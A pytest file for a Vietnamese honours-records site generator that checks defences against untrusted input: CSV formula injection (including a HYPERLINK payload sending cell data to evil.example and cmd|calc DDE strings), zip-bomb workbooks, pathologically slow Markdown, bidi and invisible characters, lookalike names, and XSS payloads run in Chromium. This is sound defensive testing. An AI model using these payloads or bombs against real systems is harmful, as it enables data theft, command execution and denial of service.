"""Untrusted input (issue 16, docs/security.md): spreadsheet formulas, slow Markdown, invisible
characters and workbook bombs, each tried in several shapes, not only the one first reported."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
import unicodedata
import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.csvout import csv_lines, is_inert, spreadsheet_cell
from generator.source.markdownguard import MarkdownTooComplex, markdown_work
from generator.templating.sanitise import sanitise_markdown
from tests.editors_project import run, write_project

TODAY = "2026-06-01"

# --- spreadsheet formulas in every CSV ------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Xem")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",  # full-width "="
    "Phong trào;=HYPERLINK(2)",  # a new cell where ";" is the list separator
    "Phong trào,\t@SUM(3)",
]


@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", "\u200b=1+1", " =1", "a\r\n=1"])
def test_every_formula_shape_is_made_inert(value: str) -> None:
    assert not is_inert(value)
    assert is_inert(spreadsheet_cell(value))
    # Read back through the csv module, the cell is the escaped text, whole.
    (row,) = csv.reader(io.StringIO(csv_lines([[value, "x"]]).decode(), newline=""))
    assert row == [spreadsheet_cell(value), "x"]


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "2019-08-20", "1234/QĐ-CTN", "Hà Nội, 2020"])
def test_ordinary_cells_are_kept(value: str) -> None:
    assert spreadsheet_cell(value) == value


def _campaign(title: str, short: str, launched: str, criterion: str) -> str:
    return f"""\
---
slug: nong-thon-moi
title: '{title.replace("'", "''")}'
short_name: '{short.replace("'", "''")}'
launched_by: '{launched.replace("'", "''")}'
level: national
start: 2016-01-01
end: 2020-12-31
criteria: ['{criterion.replace("'", "''")}']
---
Phong trào thử nghiệm.
"""


def _quoted(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _person(family: str, given: str, position: str, unit: str, number: str) -> str:
    return f"""\
slug: nguyen-van-an
kind: individual
name: {{family: {_quoted(family)}, given: {_quoted(given)}}}
position: {_quoted(position)}
unit: {_quoted(unit)}
locality: {{province: Quảng Trị, district: Triệu Phong, commune: Triệu Thành, as_of: 2019-05-01}}
campaigns: [nong-thon-moi]
awards:
  - award: huan-chuong-lao-dong
    class: ba
    year: 2019
    decision_number: {_quoted(number)}
    decision_date: 2019-08-20
    issuer: Chủ tịch nước
    issuer_level: state
    campaign: nong-thon-moi
summary: {_quoted(FORMULAS[0])}
"""


@pytest.mark.slow
def test_every_csv_the_build_writes_is_inert(tmp_path: Path) -> None:
    root = write_project(
        tmp_path,
        **{
            "content__campaigns__nong-thon-moi.md": _campaign(*FORMULAS[:4]),
            "profiles__nguyen-van-an.yml": _person(*FORMULAS[2:7]),
        },
    )
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    written = sorted((root / "site").rglob("*.csv"))
    names = {p.relative_to(root / "site").as_posix() for p in written}
    assert {"du-lieu/vinh-danh.csv", "du-lieu/honours.csv", "thong-ke/thong-ke.csv"} <= names
    seen = ""
    for path in written:
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert is_inert(cell), (path.name, cell)
        # Whatever separator a spreadsheet program splits on, no piece starts a formula.
        assert is_inert(text.replace('"', "")), path.name
        seen += text
    # The payloads did reach the files (escaped), so the test tested something.
    for escaped in ("'=HYPERLINK", "'-2+3+cmd", "'\uff1dHYPERLINK", ";'=HYPERLINK(2)", "'@SUM(3)"):
        assert escaped in seen, escaped


# --- workbooks that inflate -----------------------------------------------------------------------

SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def _hostile_xlsx(path: Path, parts: dict[str, Iterable[bytes]]) -> Path:
    """A real workbook from openpyxl with some parts replaced by streamed (huge) XML."""
    from openpyxl import Workbook

    plain = path.with_suffix(".plain.xlsx")
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Họ và tên", "Hình thức khen thưởng", "Năm"])
    sheet.append(["Nguyễn Văn An", "Bằng khen", 2020])
    book.save(plain)
    deflated = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", deflated) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and STRINGS in parts:
                data = data.replace(b"</Types>", STRINGS_TYPE + b"</Types>")
            if info.filename not in parts:
                target.writestr(info, data)
        for name, chunks in parts.items():
            with target.open(name, "w", force_zip64=True) as out:
                for chunk in chunks:
                    out.write(chunk)
    plain.unlink()
    return path


def _sheet(rows: Iterable[bytes], dimension: str = "A1:C2") -> Iterator[bytes]:
    yield SHEET_HEAD + f'<dimension ref="{dimension}"/><sheetData>'.encode()
    yield from rows
    yield b"</sheetData></worksheet>"


def _repeat(unit: bytes, count: int, batch: int = 10_000) -> Iterator[bytes]:
    for start in range(0, count, batch):
        yield unit * min(batch, count - start)


def _styled_rows(count: int) -> Iterator[bytes]:
    for start in range(1, count + 1, 10_000):
        yield b"".join(
            f'<row r="{r}" s="1" customFormat="1"/>'.encode()
            for r in range(start, min(start + 10_000, count + 1))
        )


def _forge_declared_size(path: Path, name: str, size: int) -> None:
    """Make the zip directory claim `size` bytes for `name` (a lying header)."""
    data = bytearray(path.read_bytes())
    entry = data.find(b"PK\x01\x02")
    while entry >= 0:
        length = int.from_bytes(data[entry + 28 : entry + 30], "little")
        if data[entry + 46 : entry + 46 + length] == name.encode():
            data[entry + 24 : entry + 28] = size.to_bytes(4, "little")
            break
        entry = data.find(b"PK\x01\x02", entry + 4)
    path.write_bytes(bytes(data))


def _bomb_sheet(path: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    return _hostile_xlsx(path, {SHEET: _sheet(_repeat(row, 140 * 1024 * 1024 // len(row)))})


def _lying_sheet(path: Path) -> Path:
    row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
    _hostile_xlsx(path, {SHEET: _sheet(_repeat(row, 40 * 1024 * 1024 // len(row)))})
    _forge_declared_size(path, SHEET, 1_000)
    return path


HOSTILE_WORKBOOKS: dict[str, tuple[Callable[[Path], Path], str]] = {
    # A sheet of 140 MB of XML in a file of a few hundred KB.
    "zip bomb sheet": (_bomb_sheet, "import.xlsx_part_too_large"),
    # The directory says 1 KB; the data inflates to 40 MB: zipfile stops and the CRC fails.
    "lying size": (_lying_sheet, "import.unreadable"),
    # Six million shared strings: 108 MB that openpyxl would hold as string objects.
    "shared strings bomb": (
        lambda p: _hostile_xlsx(
            p,
            {
                STRINGS: [
                    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                    *_repeat(b"<si><t>ab</t></si>", 6_000_000),
                    b"</sst>",
                ]
            },
        ),
        "import.xlsx_part_too_large",
    ),
    # Under the byte cap, over the count.
    "many shared strings": (
        lambda p: _hostile_xlsx(
            p,
            {
                STRINGS: [
                    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                    *_repeat(b"<si/>", 1_200_000),
                    b"</sst>",
                ]
            },
        ),
        "import.too_many_strings",
    ),
    "a million empty styled rows": (
        lambda p: _hostile_xlsx(p, {SHEET: _sheet(_styled_rows(1_000_000), "A1:C1000000")}),
        "import.too_many_rows",
    ),
    "styled empty cells": (
        lambda p: _hostile_xlsx(
            p, {SHEET: _sheet(_repeat(b"<row>" + b'<c s="1"/>' * 25 + b"</row>", 85_000))}
        ),
        "import.too_many_cells",
    ),
    # One row numbered 1,048,576: openpyxl would yield every row before it.
    "row number jump": (
        lambda p: _hostile_xlsx(
            p, {SHEET: _sheet([b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'])}
        ),
        "import.too_many_rows",
    ),
    # A value at XFD1 and one 150,000 rows down: every row padded to 16,384 cells.
    "far corners": (
        lambda p: _hostile_xlsx(
            p,
            {
                SHEET: _sheet(
                    [
                        b'<row r="1"><c r="XFD1"><v>1</v></c></row>',
                        b'<row r="150000"><c r="A150000"><v>1</v></c></row>',
                    ],
                    "A1:XFD150000",
                )
            },
        ),
        "import.too_many_cells",
    ),
    "giant cell": (
        lambda p: _hostile_xlsx(
            p,
            {
                SHEET: _sheet(
                    [
                        b'<row r="1"><c r="A1" t="inlineStr"><is><t>',
                        b"x" * 40_000,
                        b"</t></is></c></row>",
                    ]
                )
            },
        ),
        "import.cell_too_long",
    ),
}

_CHILD = """\
import resource, sys
from pathlib import Path
from generator.editors.rolltable import TableError
from generator.editors.spreadsheet import read_tables
try:
    read_tables(Path(sys.argv[1]))
    code = "read"
except TableError as exc:
    code = exc.code
# VmHWM is this program's own peak: ru_maxrss would keep the forking pytest's size (Linux
# carries it across exec).
status = Path("/proc/self/status")
peak = [int(x.split()[1]) for x in status.read_text().splitlines() if x.startswith("VmHWM:")]
print(code, (peak[0] if peak else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss) // 1024)
"""


@pytest.mark.slow
@pytest.mark.parametrize("variant", HOSTILE_WORKBOOKS)
def test_hostile_workbooks_are_refused_in_bounded_memory(tmp_path: Path, variant: str) -> None:
    make, expected = HOSTILE_WORKBOOKS[variant]
    path = make(tmp_path / "danh-sach.xlsx")
    assert path.stat().st_size < 50 * 1024 * 1024  # under the file-size cap: the zip inflates
    env = {"PATH": os.environ.get("PATH", ""), "PYTHONPATH": str(Path(__file__).parents[1])}
    started = time.monotonic()
    child = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path)], capture_output=True, text=True, env=env
    )
    elapsed = time.monotonic() - started
    assert child.returncode == 0, child.stderr
    code, peak_mib = child.stdout.split()
    assert code == expected
    # Peak resident memory of the whole child (Python, openpyxl, the parse): generous ceiling.
    assert int(peak_mib) < 256, f"{variant}: {peak_mib} MiB"
    assert elapsed < 60


def test_a_refused_workbook_is_named_in_both_languages(tmp_path: Path) -> None:
    root = write_project(tmp_path / "p")
    source = HOSTILE_WORKBOOKS["row number jump"][0](tmp_path / "danh-sach.xlsx")
    code, output = run("import", str(source), "--root", str(root))
    assert code == 1
    assert "danh-sach.xlsx:1:1: " in output and "quá nhiều dòng" in output, output
    code, output = run("import", str(source), "--root", str(root), "--lang", "en")
    assert "danh-sach.xlsx:1:1: " in output and "too many rows" in output, output


# --- Markdown that would take forever -------------------------------------------------------------

# Each shape repeated makes python-markdown quadratic; "[[…]]" nests rather than stays open.
SLOW_SHAPES = ["[", "![", "[a](", "<http://", "``x`", "<a ", "[^", "[a][", "<![CDATA[", "[a](<"]


def _story_profile(story: str) -> str:
    return PERSON_WITH_STORY.replace("STORY", story)


PERSON_WITH_STORY = """\
slug: nguyen-van-an
kind: individual
name: {family: Nguyễn, middle: Văn, given: An}
position: Nông dân
locality: {province: Quảng Trị, district: Triệu Phong, commune: Triệu Thành, as_of: 2019-05-01}
campaigns: [nong-thon-moi]
awards:
  - award: huan-chuong-lao-dong
    class: ba
    year: 2019
    decision_number: 1234/QĐ-CTN
    decision_date: 2019-08-20
    issuer: Chủ tịch nước
    issuer_level: state
    campaign: nong-thon-moi
story: |
  Anh An là nông dân sản xuất giỏi.

  STORY
"""


def _timed_check(root: Path) -> tuple[int, str, float]:
    started = time.monotonic()
    code, output = run("check", "--root", str(root), "--lang", "en")
    return code, output, time.monotonic() - started


@pytest.mark.parametrize("shape", SLOW_SHAPES)
def test_a_slow_story_is_refused_at_its_place_by_check(tmp_path: Path, shape: str) -> None:
    story = "Mở đầu " + shape * (90_000 // len(shape))
    root = write_project(tmp_path, **{"profiles__nguyen-van-an.yml": _story_profile(story)})
    code, output, elapsed = _timed_check(root)
    assert code == 1, output
    assert "profiles/nguyen-van-an.yml:16:1: story: Markdown too complex" in output, output
    assert "from line 3, column " in output, output
    assert elapsed < 20


def test_a_slow_campaign_body_is_refused_where_it_starts(tmp_path: Path) -> None:
    body = "Phong trào thử nghiệm.\n\nĐoạn hai " + "![" * 100_000 + "\n"
    campaign = CAMPAIGN_HEAD + body
    root = write_project(tmp_path, **{"content__campaigns__nong-thon-moi.md": campaign})
    code, output, elapsed = _timed_check(root)
    assert code == 1, output
    assert "content/campaigns/nong-thon-moi.md:11:11: Markdown too complex" in output, output
    assert elapsed < 20


CAMPAIGN_HEAD = """\
---
slug: nong-thon-moi
title: Cả nước chung sức xây dựng nông thôn mới
launched_by: Thủ tướng Chính phủ
level: national
start: 2016-01-01
end: 2020-12-31
---
"""


def test_nested_brackets_and_many_paragraphs(tmp_path: Path) -> None:
    # Balanced but deeply nested brackets are as slow; the same count split into short
    # paragraphs is fine.
    nested = "[" * 3_000 + "a" + "]" * 3_000
    split = "\n\n".join("[" * 20 for _ in range(2_000))
    assert markdown_work(nested).too_much
    assert not markdown_work(split).too_much
    paragraph = " ".join(f"Xem [bài {i}](https://example.vn/{i})." for i in range(20))
    paragraph += " Mã `QĐ-01` và `QĐ-02`."
    honest = "\n\n".join([paragraph] * 100)
    assert not markdown_work(honest).too_much
    started = time.monotonic()
    sanitise_markdown(honest + "\n\n" + split, headings=True)
    assert time.monotonic() - started < 5


@pytest.mark.slow
def test_a_refused_story_fails_the_build_and_keeps_the_old_site(tmp_path: Path) -> None:
    root = write_project(tmp_path)
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    before = {p: p.read_bytes() for p in (root / "site").rglob("*") if p.is_file()}
    (root / "profiles" / "nguyen-van-an.yml").write_text(
        _story_profile("[" * 99_000), encoding="utf-8"
    )
    started = time.monotonic()
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 1 and "Markdown" in output, output
    assert time.monotonic() - started < 30
    after = {p: p.read_bytes() for p in (root / "site").rglob("*") if p.is_file()}
    assert after == before


def test_the_renderer_refuses_what_check_refuses() -> None:
    with pytest.raises(MarkdownTooComplex):
        sanitise_markdown("[" * 50_000)


# --- property: arbitrary text in every free-text field --------------------------------------------

MARKDOWN_TOKENS = [
    *"[]()!<>`*_\\&|#-:/ a\n",
    "\n\n",
    "http://",
    "<a ",
    "![",
    "``",
    "[a](",
    "<![CDATA[",
    "=",
    "@",
    "\u202e",
    "\u200b",
    "\u200d",
]
markdownish = st.one_of(
    st.lists(st.sampled_from(MARKDOWN_TOKENS), max_size=3_000).map("".join),
    # Runs of one token: the shapes that make python-markdown quadratic.
    st.lists(st.tuples(st.sampled_from(MARKDOWN_TOKENS), st.integers(1, 4_000)), max_size=12).map(
        lambda runs: "".join(token * n for token, n in runs)
    ),
)


@pytest.mark.slow
@settings(max_examples=150, deadline=None, derandomize=True, database=None)
@given(markdownish)
def test_markdown_under_the_budget_converts_quickly(text: str) -> None:
    if markdown_work(text).too_much:
        with pytest.raises(MarkdownTooComplex):
            sanitise_markdown(text)
        return
    started = time.monotonic()
    sanitise_markdown(text, headings=True)
    assert time.monotonic() - started < 1.5


free_text = st.one_of(
    st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=200),
    st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "\uff1d"]), st.text()),
    markdownish.filter(lambda t: t.strip() != ""),
)


@pytest.mark.slow
@settings(max_examples=6, deadline=None, derandomize=True, database=None)
@given(
    family=free_text,
    position=free_text,
    unit=free_text,
    summary=free_text,
    story=markdownish.filter(lambda t: t.strip() != ""),
    citation=free_text,
    title=free_text,
)
def test_arbitrary_free_text_ends_in_time_and_every_csv_cell_is_inert(
    tmp_path_factory: pytest.TempPathFactory,
    family: str,
    position: str,
    unit: str,
    summary: str,
    story: str,
    citation: str,
    title: str,
) -> None:
    import yaml

    person = yaml.safe_load(PERSON_WITH_STORY.replace("STORY", "x"))
    person["name"]["family"] = family
    person.update(position=position, unit=unit, summary=summary, story=story)
    person["awards"][0]["citation"] = citation
    campaign = CAMPAIGN_HEAD.replace(
        "title: Cả nước chung sức xây dựng nông thôn mới", "title: " + json.dumps(title)
    )
    root = write_project(
        tmp_path_factory.mktemp("prop"),
        **{
            "profiles__nguyen-van-an.yml": yaml.safe_dump(person, allow_unicode=True),
            "content__campaigns__nong-thon-moi.md": campaign + "Nội dung.\n",
        },
    )
    started = time.monotonic()
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert time.monotonic() - started < 60
    if code != 0:
        assert "Traceback" not in output and ":" in output, output
        return
    for path in (root / "site").rglob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            assert all(is_inert(cell) for cell in row), (path.name, row)


# --- invisible and direction-changing characters --------------------------------------------------

REFUSED = {
    "\u202e": "text.bidi_control",  # right-to-left override
    "\u202d": "text.bidi_control",  # left-to-right override
    "\u2067": "text.bidi_control",  # right-to-left isolate
    "\u2066": "text.bidi_control",
    "\u202b": "text.bidi_control",  # right-to-left embedding
    "\u202a": "text.bidi_control",
}
# Zero-width space, word joiner, BOM, soft hyphen, LRM, ZWNJ, a tag letter, a joiner between
# letters, vertical tab, C1 "next line", DEL.
STRIPPED = [
    "\u200b", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200c", "\U000e0041", "\u200d",
    "\x0b", "\x85", "\x7f",
]  # fmt: skip


def _yaml_string(text: str, escaped: bool = False) -> str:
    """A double-quoted YAML scalar, its characters written as escapes ("\\u202e") or not."""
    return json.dumps(text, ensure_ascii=escaped)


def _person_named(given: str, story: str = "Anh An là nông dân.", escaped: bool = False) -> str:
    named = f"given: {_yaml_string(given, escaped)}}}"
    return PERSON_WITH_STORY.replace("given: An}", named).replace("STORY", story)


@pytest.mark.parametrize("char", REFUSED)
@pytest.mark.parametrize(
    "where",
    ["name", "escaped name", "story", "campaign title", "campaign body", "config"],
)
def test_direction_and_control_characters_are_refused_where_they_are(
    tmp_path: Path, char: str, where: str
) -> None:
    files: dict[str, str] = {}
    if where.endswith("name"):
        files["profiles__nguyen-van-an.yml"] = _person_named(
            f"A{char}n", escaped="escaped" in where
        )
        at = "profiles/nguyen-van-an.yml:3:"
    elif where == "story":
        files["profiles__nguyen-van-an.yml"] = _person_named("An", f"Anh {char}An")
        at = "profiles/nguyen-van-an.yml:19:7:"
    elif where == "campaign title":
        title = "title: Cả nước chung sức xây dựng nông thôn mới"
        files["content__campaigns__nong-thon-moi.md"] = CAMPAIGN_HEAD.replace(
            title, f"title: {_yaml_string('Cả nước' + char, escaped=True)}"
        )
        at = "content/campaigns/nong-thon-moi.md:3:"
    elif where == "campaign body":
        files["content__campaigns__nong-thon-moi.md"] = CAMPAIGN_HEAD + f"Nội{char} dung.\n"
        at = "content/campaigns/nong-thon-moi.md:9:4:"
    else:
        from tests.editors_project import CONFIG

        files["site_config.yml"] = CONFIG.replace("Dữ liệu thử nghiệm", f"Dữ liệu{char}")
        at = "site_config.yml:3:"
    root = write_project(tmp_path, **files)
    code, output = run("check", "--root", str(root), "--lang", "en")
    assert code == 1, output
    expected = "direction control"
    line = next(x for x in output.splitlines() if x.startswith(at))
    assert expected in line and f"U+{ord(char):04X}" in line, output


def _format_characters(text: str) -> list[str]:
    return [
        f"U+{ord(c):04X}"
        for c in text.lstrip("\ufeff")
        if unicodedata.category(c) in ("Cf", "Cc") and c not in "\t\n\r"
    ]


@pytest.mark.slow
def test_invisible_characters_are_removed_with_a_warning_and_reach_no_output(
    tmp_path: Path,
) -> None:
    given = "A" + "".join(STRIPPED) + "n"
    # A joiner between two emoji is kept: it makes one family emoji.
    story = "Gia đình 👨\u200d👩\u200d👧 của anh\u200bAn."
    person = _person_named(given, story)
    # The same characters written as YAML escapes are found once parsed.
    person = person.replace("position: Nông dân", 'position: "Nông\\u200b dân\\u2060"')
    root = write_project(tmp_path, **{"profiles__nguyen-van-an.yml": person})
    code, output = run("check", "--root", str(root), "--lang", "en")
    assert code == 0, output
    warned = [x for x in output.splitlines() if "invisible character" in x]
    assert len(warned) == len(STRIPPED) + 3, output
    assert all(x.startswith("profiles/nguyen-van-an.yml:") for x in warned)
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    data = json.loads((root / "site/api/v1/profiles/nguyen-van-an.json").read_text("utf-8"))
    assert data["name"]["given"] == "An" and data["position"] == "Nông dân"
    assert "👨\u200d👩\u200d👧" in data["story_html"]
    for path in (root / "site").rglob("*"):
        if path.suffix in (".html", ".json", ".csv", ".xml", ".txt", ".md"):
            text = path.read_text("utf-8")
            found = [c for c in _format_characters(text) if c != "U+200D"]
            assert found == [], (path, found)


@pytest.mark.parametrize(
    "twin",
    ["NGUYỄN VĂN AN", "\uff2eguyễn Văn An", "Nguyễn Văn \U0001d400n", "Nguyễn  Văn An"],
    ids=["capitals", "full-width", "mathematical", "spacing"],
)
def test_identical_looking_names_are_reported_naming_both_files(tmp_path: Path, twin: str) -> None:
    other = COLLECTIVE_NAMED.replace("FULL", _yaml_string(twin))
    root = write_project(tmp_path, **{"profiles__htx-tan-phu.yml": other})
    _code, output = run("check", "--root", str(root), "--lang", "en")
    assert "looks the same as" in output, output
    line = next(x for x in output.splitlines() if "looks the same as" in x)
    assert "profiles/htx-tan-phu.yml" in line and "profiles/nguyen-van-an.yml" in line


COLLECTIVE_NAMED = """\
slug: htx-tan-phu
kind: collective
name:
  full: FULL
locality:
  province: Lạng Sơn
awards:
  - award: bang-khen-thu-tuong
    year: 2020
    issuer_level: government
"""


def test_identical_looking_slugs_are_reported(tmp_path: Path) -> None:
    from tests.editors_project import PERSON

    twin = PERSON.replace("slug: nguyen-van-an", "slug: nguyen-van-an1").replace(
        "given: An", "given: Ân"
    )
    third = twin.replace("nguyen-van-an1", "nguyen-van-anl").replace("given: Ân", "given: Ấn")
    root = write_project(
        tmp_path, **{"profiles__nguyen-van-an1.yml": twin, "profiles__nguyen-van-anl.yml": third}
    )
    _code, output = run("check", "--root", str(root), "--lang", "en")
    assert "'nguyen-van-anl' is easily mistaken for 'nguyen-van-an1'" in output, output


# --- no injected script runs in a browser --------------------------------------------------------

# Payloads that break out of HTML text, attributes, URLs, JSON-LD and Markdown, each calling
# `window.__pwned()`; the page defines it (init script) to record the call.
SCRIPT_PAYLOADS = [
    "<script>__pwned('script')</script>",
    '"><img src=x onerror="__pwned(\'attr\')">',
    "'><svg onload=__pwned('svg')>",
    "[bấm](javascript:__pwned('md-link'))",
    "![x](x\" onerror=\"__pwned('md-img'))",
    "</script><script>__pwned('json')</script>",
    "<a href='javascript:__pwned(1)'>x</a>",
    "<iframe srcdoc=\"<script>parent.__pwned('srcdoc')</script>\"></iframe>",
    "{{ 7*7 }} {% raw %}__pwned{% endraw %}",
    "<details open ontoggle=__pwned('toggle')>",
]
payload_text = st.builds(
    lambda before, payload, after: f"{before}{payload}{after}",
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cf")), max_size=20),
    st.sampled_from(SCRIPT_PAYLOADS),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cf")), max_size=20),
)


@pytest.mark.slow
@settings(max_examples=4, deadline=None, derandomize=True, database=None)
@given(
    position=payload_text,
    unit=payload_text,
    summary=payload_text,
    story=payload_text,
    citation=payload_text,
    title=payload_text,
)
def test_no_injected_script_runs_in_chromium(
    tmp_path_factory: pytest.TempPathFactory,
    chromium: Any,
    position: str,
    unit: str,
    summary: str,
    story: str,
    citation: str,
    title: str,
) -> None:
    """Script-shaped text in every free-text field: the pages carrying it run none of it."""
    import yaml

    from tests.browser import open_probe, serve

    person = yaml.safe_load(PERSON_WITH_STORY.replace("STORY", "x"))
    person.update(position=position, unit=unit, summary=summary, story=story)
    person["awards"][0]["citation"] = citation
    campaign = CAMPAIGN_HEAD.replace(
        "title: Cả nước chung sức xây dựng nông thôn mới",
        "title: " + json.dumps(title, ensure_ascii=False),
    )
    root = write_project(
        tmp_path_factory.mktemp("xss"),
        **{
            "profiles__nguyen-van-an.yml": yaml.safe_dump(person, allow_unicode=True),
            "content__campaigns__nong-thon-moi.md": campaign + story + "\n",
        },
    )
    code, output = run("build", "--root", str(root), "--today", TODAY)
    assert code == 0, output
    with serve(root / "site") as site, open_probe(chromium, site) as probe:
        calls: list[str] = []
        probe.page.expose_function("__recordPwned", lambda what: calls.append(str(what)))
        probe.page.add_init_script("window.__pwned = (what) => window.__recordPwned(String(what));")
        for path in ("ho-so/nguyen-van-an/", "phong-trao/nong-thon-moi/", "danh-sach/ca-nhan/"):
            probe.goto(path)
            for details in probe.page.locator("details").all():
                details.evaluate("d => d.open = true")  # an `ontoggle` would fire now
            probe.page.wait_for_timeout(50)
        assert calls == [], calls
        assert not probe.page_errors, probe.page_errors
